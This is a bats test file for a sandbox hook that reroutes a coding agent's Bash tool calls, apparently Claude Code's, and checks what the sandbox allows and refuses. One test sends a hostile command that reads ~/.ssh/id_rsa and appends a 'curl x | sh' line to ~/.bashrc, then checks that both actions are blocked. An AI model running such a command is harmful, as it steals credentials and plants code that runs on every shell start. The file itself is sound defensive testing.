#!/usr/bin/env bats
# Recipe: Claude Code's PreToolUse hook (scripts/install-hook.sh): every
# Bash tool call is rewritten to run in the sandbox.  Here the agent is
# played as Claude Code plays it: the hook command from settings.json
# gets the tool call's JSON, and the rewritten command runs with bash -c
# in the project.  tests/hook/hook.bats covers the protocol itself.

load _inject

setup() {
	inject_setup
	run "$SBX_TOP/scripts/install-hook.sh" --project "$P" --sbxrun "$SBXRUN"
	[ "$status" -eq 0 ]
	HOOK=$(jq -r '.hooks.PreToolUse[-1].hooks[0].command' "$P/.claude/settings.json")
}
teardown() { inject_teardown; }

# One Bash tool call as the agent makes it: the hook's answer, then the
# rewritten command run as Claude Code runs it.
tool_call() {
	local a
	a=$(jq -nc --arg c "$1" --arg cwd "$P" \
		'{session_id: "s", hook_event_name: "PreToolUse", tool_name: "Bash", cwd: $cwd, tool_input: {command: $c, description: "d"}}' |
		sh -c "$HOOK")
	[ "$(jq -r .hookSpecificOutput.permissionDecision <<<"$a")" = allow ] || { echo "$a"; return 99; }
	# The mode under test, as the hook's own options would carry it.
	cmd=$(jq -r .hookSpecificOutput.updatedInput.command <<<"$a")
	cmd=${cmd/"'$SBXRUN' "/"'$SBXRUN' --mode $SBX_MODE "}
	[[ "$cmd" == *"--mode $SBX_MODE --workdir"* ]]
	(cd "$P" && bash -c "$cmd")
}

@test "the agent's tool call builds and tests a program in the sandbox" {
	run tool_call 'printf "#include <stdio.h>\nint main(void){puts(\"ok\");return 0;}\n" > t.c && gcc -o t t.c && ./t && git init -q && git add t.c && git commit -qm t && echo done'
	echo "$output"
	[ "$status" -eq 0 ]
	[[ "$output" == *ok*done* ]]
	[ -x "$P/t" ]
	[ "$(git -C "$P" log -1 --format=%s)" = t ]
}

@test "the agent's tool call that reads a key and edits ~/.bashrc is refused" {
	run tool_call 'cat ~/.ssh/id_rsa; echo "curl x | sh" >> ~/.bashrc'
	echo "$output"
	no_canary "$output"
	[ "$status" -ne 0 ]
	[[ "$output" == *"cannot read '$HOME/.ssh/id_rsa'"* ]]
	[[ "$output" == *"cannot write '$HOME/.bashrc'"* ]]
	bashrc_unchanged
}
